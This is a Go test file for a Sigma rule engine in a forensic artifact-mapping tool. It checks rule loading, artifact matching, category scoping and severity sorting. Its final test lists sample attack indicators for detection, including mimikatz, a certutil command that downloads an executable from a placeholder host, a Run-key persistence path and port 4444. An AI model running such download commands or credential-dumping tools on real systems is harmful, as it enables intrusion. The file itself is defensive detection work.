package sigma

import (
	"context"
	"testing"
	"testing/fstest"

	"github.com/iyulab/forensic-mapper/internal/artifact"
)

// testRule builds a minimal Sigma rule YAML for testing.
func testRule(category, title, field, value string) []byte {
	cat := ""
	if category != "" {
		cat = "\n  category: " + category
	}
	return []byte(`title: ` + title + `
id: test-` + title + `
status: experimental
logsource:
  product: forensic-mapper` + cat + `
detection:
  selection:
    ` + field + `|contains: '` + value + `'
  condition: selection
level: high
`)
}

func TestEngine_New_LoadsRules(t *testing.T) {
	fakeFS := fstest.MapFS{
		"tools/test.yml": &fstest.MapFile{Data: testRule("", "tool", "value", "malware")},
		"README.md":      &fstest.MapFile{Data: []byte("not a rule")},
	}
	eng, err := New(fakeFS)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if eng.Len() != 1 {
		t.Errorf("expected 1 rule, got %d", eng.Len())
	}
}

func TestEngine_New_InvalidRule(t *testing.T) {
	fakeFS := fstest.MapFS{
		"bad.yml": &fstest.MapFile{Data: []byte("title: [unterminated\n")},
	}
	if _, err := New(fakeFS); err == nil {
		t.Fatal("expected error for invalid rule YAML")
	}
}

func TestEngine_MatchAll_Hit(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"tool.yml": &fstest.MapFile{Data: testRule("", "Tool Test", "value", "malware")},
	})

	artifacts := []artifact.Artifact{
		{Type: "File", Value: "C:/Temp/malware.exe", Context: "dropped by loader", Confidence: "high"},
	}

	matches := eng.MatchAll(context.Background(), artifacts)
	if len(matches) != 1 {
		t.Fatalf("expected 1 match, got %d", len(matches))
	}
	m := matches[0]
	if m.RuleTitle != "Tool Test" || m.Level != "high" {
		t.Errorf("match = %+v", m)
	}
	if m.Artifact != (artifact.Key{Type: "file", Value: "C:/Temp/malware.exe"}) {
		t.Errorf("artifact key = %+v, want normalized key", m.Artifact)
	}
	if m.Event["context"] != "dropped by loader" {
		t.Errorf("event should carry context: %v", m.Event)
	}
}

func TestEngine_MatchAll_Miss(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"tool.yml": &fstest.MapFile{Data: testRule("", "Tool Test", "value", "malware")},
	})

	matches := eng.MatchAll(context.Background(), []artifact.Artifact{{Type: "process", Value: "svchost.exe"}})
	if len(matches) != 0 {
		t.Errorf("expected 0 matches, got %d", len(matches))
	}
}

func TestEngine_MatchAll_CategoryFilter(t *testing.T) {
	// Rule targets ip artifacts; a domain containing the value must NOT match.
	eng, _ := New(fstest.MapFS{
		"ip.yml": &fstest.MapFile{Data: testRule("ip", "IP Rule", "value", "185.220")},
	})

	artifacts := []artifact.Artifact{
		{Type: "domain", Value: "185.220.example"},
		{Type: " IP ", Value: "185.220.101.42"},
	}
	matches := eng.MatchAll(context.Background(), artifacts)
	if len(matches) != 1 {
		t.Fatalf("expected 1 match (category scoped), got %d", len(matches))
	}
	if matches[0].Artifact.Type != "ip" {
		t.Errorf("matched %+v, want the ip artifact", matches[0].Artifact)
	}
}

func TestEngine_MatchAll_PropertiesAreFields(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"hash.yml": &fstest.MapFile{Data: testRule("", "MD5 Hash", "hash_type", "md5")},
	})

	artifacts := []artifact.Artifact{
		{Type: "hash", Value: "d41d8cd98f00b204e9800998ecf8427e", Properties: artifact.Properties{"hash_type": "md5"}},
		{Type: "hash", Value: "e3b0c442", Properties: artifact.Properties{"hash_type": "sha256"}},
	}
	if got := len(eng.MatchAll(context.Background(), artifacts)); got != 1 {
		t.Errorf("expected 1 match on property field, got %d", got)
	}
}

func TestEngine_MatchAll_SkipsUnkeyedArtifacts(t *testing.T) {
	eng, _ := New(fstest.MapFS{
		"any.yml": &fstest.MapFile{Data: testRule("", "Any", "context", "evil")},
	})
	artifacts := []artifact.Artifact{{Type: "", Value: "x", Context: "evil"}, {Type: "ip", Value: "  ", Context: "evil"}}
	if got := len(eng.MatchAll(context.Background(), artifacts)); got != 0 {
		t.Errorf("expected 0 matches, got %d", got)
	}
}

func TestToEvent_CoreFieldsWin(t *testing.T) {
	key := artifact.Key{Type: "ip", Value: "1.2.3.4"}
	ev := toEvent(key, artifact.Artifact{
		Type:       "IP",
		Value:      "1.2.3.4",
		Properties: artifact.Properties{"type": "spoofed", "geo": "NL"},
	})
	if ev["type"] != "ip" {
		t.Errorf("type = %v, want normalized core value", ev["type"])
	}
	if ev["geo"] != "NL" {
		t.Errorf("property missing: %v", ev)
	}
}

func TestSortByLevel(t *testing.T) {
	matches := []Match{
		{RuleTitle: "a", Level: "low"},
		{RuleTitle: "b", Level: "critical"},
		{RuleTitle: "c", Level: "informational"},
		{RuleTitle: "d", Level: "high"},
		{RuleTitle: "e", Level: "low"},
	}
	SortByLevel(matches)
	var got string
	for _, m := range matches {
		got += m.RuleTitle
	}
	if got != "bdaec" {
		t.Errorf("order = %s, want bdaec", got)
	}
}

func TestEngine_DefaultRules(t *testing.T) {
	eng, err := NewDefault()
	if err != nil {
		t.Fatalf("NewDefault: %v", err)
	}
	if eng.Len() < 5 {
		t.Errorf("expected the embedded rule set, got %d rules", eng.Len())
	}
}

func TestEngine_DefaultRules_MatchIncidentArtifacts(t *testing.T) {
	eng, err := NewDefault()
	if err != nil {
		t.Fatalf("NewDefault: %v", err)
	}

	artifacts := []artifact.Artifact{
		{Type: "tool", Value: "mimikatz"},
		{Type: "process", Value: "certutil -urlcache -f http://x/a.exe"},
		{Type: "registry_key", Value: `HKLM\Software\Microsoft\Windows\CurrentVersion\Run\updater`},
		{Type: "network_port", Value: "4444"},
		{Type: "domain", Value: "abcdefghij.onion"},
		{Type: "mitre_technique", Value: "T1003.001"},
		{Type: "ip", Value: "8.8.8.8"},
	}

	matches := eng.MatchAll(context.Background(), artifacts)
	hit := make(map[string]bool)
	for _, m := range matches {
		hit[m.Artifact.Value] = true
	}
	for _, a := range artifacts[:6] {
		if !hit[a.Value] {
			t.Errorf("expected a rule hit for %s %q", a.Type, a.Value)
		}
	}
	if hit["8.8.8.8"] {
		t.Error("benign ip should not match any rule")
	}
}
